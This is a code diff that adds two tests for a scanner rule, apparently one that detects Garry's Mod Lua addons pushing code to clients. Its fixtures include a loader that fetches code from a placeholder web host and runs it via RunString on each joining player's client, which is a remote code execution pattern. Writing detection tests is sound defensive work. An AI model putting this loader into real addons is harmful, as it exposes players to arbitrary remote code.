@@ -30,4 +30,30 @@ describe('client_code_push', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it('an anti-cheat pushing a loader for its own shipped checks', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_ac.lua': [
+        'util.AddNetworkString("ac_payload")',
+        'local packed = util.Compress(file.Read("ac/client_checks.lua", "LUA") or "")',
+        'hook.Add("PlayerInitialSpawn", "ac", function(ply)',
+        ' ply:SendLua([[net.Receive("ac_payload",function() RunString(util.Decompress(net.ReadData(net.ReadUInt(16))),"AC") end)]])',
+        ' timer.Simple(5, function() net.Start("ac_payload") net.WriteUInt(#packed, 16) net.WriteData(packed, #packed) net.Send(ply) end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings.length).toBeGreaterThan(0);
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
+  it('the same loader, fed from the web', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_ac.lua': [
+        'util.AddNetworkString("ac_payload")',
+        'hook.Add("PlayerInitialSpawn", "ac", function(ply)',
+        ' ply:SendLua([[net.Receive("ac_payload",function() RunString(util.Decompress(net.ReadData(net.ReadUInt(16))),"AC") end)]])',
+        ' http.Fetch("https://cdn.invalid/c", function(b) local d = util.Compress(b) net.Start("ac_payload") net.WriteUInt(#d, 16) net.WriteData(d, #d) net.Send(ply) end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
 });
